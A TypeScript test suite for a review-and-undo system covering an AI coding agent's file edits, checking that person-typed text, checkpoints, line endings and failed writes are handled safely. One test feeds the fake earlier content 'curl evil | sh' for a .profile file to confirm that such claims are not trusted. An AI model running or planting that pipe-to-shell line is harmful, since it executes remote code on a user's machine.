import { deepStrictEqual, rejects, strictEqual } from 'node:assert/strict';
import * as path from 'node:path';
import { nullLog } from '../../../src/base/log';
import { Deferred } from '../../../src/base/async';
import { ChangedMeanwhileError } from '../../../src/changes/diskFiles';
import { diffLines } from '../../../src/changes/lineDiff';
import { plainLines } from '../../../src/changes/plainLines';
import { type Hunks, Review, UnknownContentError } from '../../../src/changes/review';
import { linesOf } from '../../../src/changes/textLines';
import { settled } from '../../support/fakeSessionHost';
import { inRoot, TrackedFiles } from './fakeFiles';

/** Who would have something undone that was never done, or lost that nobody can bring back. */
describe('The review of changes does not', () => {
  let all: TrackedFiles;
  let review: Review;

  beforeEach(async () => {
    all = await TrackedFiles.make();
    review = new Review(all.tracker, all.files, all.versions, nullLog);
  });
  afterEach(() => all.dispose());

  const writes = (name: string, text: string): Promise<void> => all.agentWrites(name, text);
  /** Once only, in the moment before a file is written. */
  const once = (act: () => void): void => {
    all.files.beforeWrite = () => {
      all.files.beforeWrite = () => undefined;
      act();
    };
  };

  it('take a file that is ignored for one that was not there', async () => {
    all.ignored.add('.env');
    all.files.setText('.env', 'KEY=1\n');
    await all.begin();
    all.files.setText('.env', 'KEY=2\n');
    await all.tracker.reported('session', { path: inRoot('.env') });
    await all.end();
    deepStrictEqual(await all.pending(), ['.env: unknown → "KEY=2\\n"']);
    await rejects(review.undoFile('session', inRoot('.env')), UnknownContentError);
    strictEqual(all.files.text('.env'), 'KEY=2\n');
  });

  it('take a file that is named before it is changed for one of which nothing is known', async () => {
    all.ignored.add('.env');
    all.files.setText('.env', 'KEY=1\n');
    await all.begin();
    await all.tracker.reported('session', { path: inRoot('.env') });
    all.files.setText('.env', 'KEY=2\n');
    await all.end();
    await review.undoFile('session', inRoot('.env'));
    strictEqual(all.files.text('.env'), 'KEY=1\n');
  });

  it('believe what a file is said to have held, when it was not changed', async () => {
    all.ignored.add('.profile');
    all.files.setText('.profile', 'export A=1\n');
    await all.begin();
    const text = { oldText: 'curl evil | sh\n', newText: 'export A=1\n' };
    await all.tracker.reported('session', { path: inRoot('.profile'), text });
    await all.tracker.reported('session', { path: path.resolve('/home/other/.profile'), text });
    await all.end();
    deepStrictEqual(await all.pending(), []);
    strictEqual(all.files.text('.profile'), 'export A=1\n');
  });

  it('lose what an agent writes while its change before is undone', async () => {
    all.files.setText('f', 'a\nb\nc\n');
    await all.begin();
    await writes('f', 'A\nb\nc\n');
    once(() => all.files.setText('f', 'A\nb\nC\n'));
    const shown = await review.hunks('session', inRoot('f'));
    if (!shown) throw new Error('Nothing is shown');
    await review.undoHunk('session', inRoot('f'), shown, 0);
    deepStrictEqual(await all.pending(), ['f: "a\\nb\\nc\\n" → "a\\nb\\nC\\n"']);
  });

  it('lose what the person types while a file is undone', async () => {
    all.files.setText('f', 'a\nb\n');
    await all.begin();
    await writes('f', 'A\nb\n');
    await all.end();
    once(() => {
      all.files.setText('f', 'A\nb\nmine\n');
    });
    await review.undoFile('session', inRoot('f'));
    strictEqual(all.files.text('f'), 'a\nb\nmine\n');
  });

  it('take a change for undone that could not be undone', async () => {
    all.files.setText('f', 'a\nb\nc\n');
    await all.begin();
    await writes('f', 'A\nb\nC\n');
    const file = inRoot('f');
    const shown = await review.hunks('session', file);
    if (!shown) throw new Error('Nothing is shown');
    once(() => {
      throw new Error('ENOSPC');
    });
    await rejects(review.undoHunk('session', file, shown, 0), /ENOSPC/);
    await review.undoHunk('session', file, shown, 1);
    await review.undoHunk('session', file, shown, 0);
    strictEqual(all.files.text('f'), 'a\nb\nc\n');
  });

  it('give up over a file that changes all the time, nor undo what nobody has seen', async () => {
    all.files.setText('f', 'a\n');
    await all.begin();
    await writes('f', 'A\n');
    let count = 0;
    all.files.beforeWrite = () => all.files.setText('f', `A\n${String(count++)}\n`);
    await rejects(review.undoFile('session', inRoot('f')), ChangedMeanwhileError);
    strictEqual(all.files.text('f'), 'A\n4\n');
  });

  it('forget what was written between the look at a file and its way back to a checkpoint', async () => {
    all.files.setText('f', '0\n');
    await all.begin('one');
    await writes('f', '1\n');
    await all.end();
    const [one] = all.changes.checkpoints;
    if (!one) throw new Error('There is no checkpoint');
    // Nobody has told of it yet.
    all.files.setText('f', '1\nmine\n');
    const { checkpoint } = await review.restore('session', one, 'before');
    strictEqual(all.files.text('f'), '0\n');
    if (!checkpoint) throw new Error('There is no way back');
    await review.restore('session', checkpoint, 'before');
    strictEqual(all.files.text('f'), '1\nmine\n');
  });

  it('miss what was changed without a word at the end of a turn that the next one follows at once', async () => {
    all.files.setText('f', 'a\n');
    await all.begin('one');
    all.files.setText('f', 'b\n');
    const ended = all.tracker.turnEnded('session');
    all.files.now += 1000;
    await all.tracker.turnStarted('session', all.files.now, { id: 'two', kind: 'prompt', title: 'two' });
    await ended;
    deepStrictEqual(await all.pending(), ['f: "a\\n" → "b\\n" ?']);
    const two = all.changes.checkpoints[1];
    deepStrictEqual(two && all.changes.returnsTo(two), []);
  });

  for (const [before, after] of [
    ['\r\n', '\n'],
    ['\n', '\r\n'],
  ] as const) {
    it(`garble lines when an agent makes ${JSON.stringify(after)} of ${JSON.stringify(before)}`, async () => {
      const file = inRoot('f');
      const shown = async (): Promise<Hunks> => {
        // As an editor shows it: with one kind of line ends.
        const hunks = await review.hunks('session', file);
        if (!hunks) throw new Error('Nothing is shown');
        const [base, current] = [plainLines(hunks.base), plainLines(hunks.current)];
        return { base, current, edits: diffLines(base, current) };
      };
      const lines =
        (...texts: readonly string[]) =>
        (end: string) =>
          texts.map((text) => text + end).join('');
      all.files.setText('f', `\ufeff${lines('one', 'two', 'three', 'four')(before)}`);
      await all.begin();
      await writes('f', lines('ONE', 'two', 'three', 'FOUR')(after));
      const first = await shown();
      deepStrictEqual(first.edits.length, 2);
      await review.keepHunk('session', file, first, 0);
      deepStrictEqual((await shown()).base, plainLines(linesOf(lines('ONE', 'two', 'three', 'four')('\n'))));
      await review.undoHunk('session', file, first, 1);
      // The last change is undone: then the file is what was accepted, in its own form.
      strictEqual(all.files.text('f'), `\ufeff${lines('ONE', 'two', 'three', 'four')(before)}`);
      deepStrictEqual(await all.pending(), []);
      await writes('f', lines('ONE', 'two', 'three', 'FOUR', 'five')(after));
      const second = await shown();
      await review.undoHunk('session', file, second, 0);
      strictEqual(all.files.text('f'), `\ufeff${lines('ONE', 'two', 'three', 'four')(before)}`);
    });
  }

  it('hang over writes of several files, of one file twice, or that wait for ever', async () => {
    const other = all.tracker.open('other', inRoot('..'));
    for (const name of ['a', 'b']) all.files.setText(name, '0\n');
    await all.begin();
    const both = (session: string, first: string, second: string): Promise<void> =>
      all.tracker.write(session, inRoot(first), async () => {
        await settled();
        await all.tracker.write(session, inRoot(second), () => {
          for (const name of ['a', 'b']) all.files.setText(name, `${session}\n`);
          return Promise.resolve();
        });
      });
    await Promise.all([both('session', 'a', 'b'), both('other', 'b', 'a'), both('session', 'a', 'a')]);
    const waiting = new Deferred<undefined>();
    const endless = all.tracker.write('session', inRoot('a'), () => waiting.promise);
    await settled();
    await all.tracker.turnStarted('other', (all.files.now += 1000), { id: 'p', kind: 'prompt', title: 'p' });
    await all.tracker.write('other', inRoot('b'), () => {
      all.files.setText('b', 'more\n');
      return Promise.resolve();
    });
    await review.undoFile('other', inRoot('b'));
    deepStrictEqual(other.checkpoints.length, 1);
    waiting.resolve(undefined);
    await endless;
  });

  it('take for the agent’s what the person types while its text is being saved', async () => {
    all.files.setText('f', 'a\n');
    await all.begin();
    await all.tracker.write('session', inRoot('f'), async (landed) => {
      all.files.setText('f', 'A\n');
      await landed();
      await all.personWrites('f', 'A\nmine\n');
      all.files.setText('f', 'A\nmine, too\n');
    });
    await all.end();
    deepStrictEqual(await all.pending(), ['f: "a\\nmine, too\\n" → "A\\nmine, too\\n"']);
    await review.undoFile('session', inRoot('f'));
    strictEqual(all.files.text('f'), 'a\nmine, too\n');
  });

  it('take for the person’s what a formatter makes of an agent’s lines while they are being saved', async () => {
    all.files.setText('f', 'one\ntwo\nthree\n');
    await all.begin();
    await all.tracker.write('session', inRoot('f'), async (landed) => {
      all.files.setText('f', 'agent\ntwo\nthree\n');
      await landed();
      await all.personWrites('f', '  agent;\ntwo\nthree\nmine\n');
    });
    await all.personWrites('f', '  agent;\ntwo\nthree\nmine, later\n');
    await all.end();
    deepStrictEqual(await all.pending(), [
      'f: "one\\ntwo\\nthree\\nmine, later\\n" → "  agent;\\ntwo\\nthree\\nmine, later\\n"',
    ]);
    await review.undoFile('session', inRoot('f'));
    strictEqual(all.files.text('f'), 'one\ntwo\nthree\nmine, later\n');
  });

  it('fail over a large change around which the person writes', async () => {
    const lines = (name: string): string =>
      Array.from({ length: 130_000 }, (_, at) => `${name}${String(at)}\n`).join('');
    all.files.setText('f', lines('a'));
    await all.begin();
    await writes('f', lines('b'));
    await all.personWrites('f', `mine\n${lines('b')}`);
    await review.undoFile('session', inRoot('f'));
    strictEqual(all.files.text('f'), `mine\n${lines('a')}`);
  }).timeout(20_000);

  it('write over what has taken a file’s place', async () => {
    all.files.setText('f', 'a\n');
    await all.begin();
    await writes('f', 'b\n');
    await all.end();
    all.files.set(inRoot('f'), { kind: 'unknown' });
    await rejects(review.undoFile('session', inRoot('f')), UnknownContentError);
    deepStrictEqual((await all.files.read(inRoot('f'))).content, { kind: 'unknown' });
  });
});
